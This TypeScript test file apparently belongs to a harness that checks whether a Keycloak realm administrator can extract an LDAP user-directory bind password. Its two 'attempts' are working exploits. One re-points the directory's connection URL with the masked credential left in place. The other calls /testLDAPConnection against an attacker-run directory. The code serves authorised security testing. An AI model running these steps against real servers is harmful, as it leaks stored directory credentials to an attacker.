import { type Directory, startDirectory } from "../../ldap/directory.ts";
import type { Attempt } from "../attempt.ts";
import { Refusal } from "../refusal.ts";
import { signInWithPassword } from "../request-token.ts";
import type { Scene } from "../scene.ts";

const roles = ["manage-realm"];
const bindPassword = crypto.randomUUID();

interface Component {
  readonly id: string;
  readonly config: Readonly<Record<string, readonly string[]>>;
}

/** The settings of the realm's user directory, which stands somewhere else. */
function settingsIn(realmId: string) {
  return {
    ...{ name: "directory", providerId: "ldap", parentId: realmId },
    providerType: "org.keycloak.storage.UserStorageProvider",
    config: {
      ...{ enabled: ["true"], vendor: ["other"], editMode: ["READ_ONLY"] },
      ...{ connectionUrl: ["ldap://localhost:1"], bindDn: ["cn=keycloak"] },
      ...{ bindCredential: [bindPassword], authType: ["simple"], usersDn: ["dc=example"] },
      ...{ rdnLDAPAttribute: ["uid"], uuidLDAPAttribute: ["entryUUID"] },
      ...{ usernameLDAPAttribute: ["uid"], userObjectClasses: ["person"] },
    },
  };
}

/** Somebody whom the realm doesn't know tries to sign in, so that the server looks in the directory. */
async function tryToSignIn(scene: Scene): Promise<void> {
  try {
    await signInWithPassword(scene, "somebody", "any");
  } catch (error) {
    if (!(error instanceof Refusal)) throw error;
  }
}

function assertReceived(directory: Directory): void {
  const password = directory.password();
  if (password === undefined) throw new Error("Nobody connected to the attacker's directory.");
  if (password !== bindPassword) throw new Refusal("It was sent another password.");
}

/** What changing where a realm's user directory stands leads to. */
export const manageRealmDirectory: readonly Attempt[] = [
  {
    // The password stays when the masked one is sent back, and so goes where the address says.
    id: "redirect-directorys-password",
    roles,
    harm: "critical",
    attack: async (scene) => {
      const { attacker, lab, realmId } = scene;
      const { caller } = attacker;
      const id = await lab.create("/components", settingsIn(realmId));
      const directory = await startDirectory();
      try {
        const masked = await caller.read<Component>(`/components/${id}`);
        const config = { ...masked.config, connectionUrl: [directory.url] };
        await caller.send("PUT", `/components/${id}`, { ...masked, config });
        await tryToSignIn(scene);
        assertReceived(directory);
      } finally {
        await directory.stop();
      }
    },
  },
  {
    id: "test-connection-with-directorys-password",
    roles,
    harm: "critical",
    attack: async ({ attacker: { caller }, lab, realmId }) => {
      const componentId = await lab.create("/components", settingsIn(realmId));
      const directory = await startDirectory();
      try {
        await caller
          .send("POST", "/testLDAPConnection", {
            ...{ action: "testAuthentication", componentId, connectionUrl: directory.url },
            ...{ authType: "simple", bindDn: "cn=keycloak", bindCredential: "**********" },
            ...{ connectionTimeout: "", startTls: "", useTruststoreSpi: "always" },
          })
          .catch((error: unknown) => {
            if (error instanceof Refusal) throw error;
            const why = error instanceof Error ? error.message : String(error);
            // 400 is how the server says that it didn't connect.
            if (directory.password() === undefined) throw new Refusal(why);
          });
        assertReceived(directory);
      } finally {
        await directory.stop();
      }
    },
  },
];
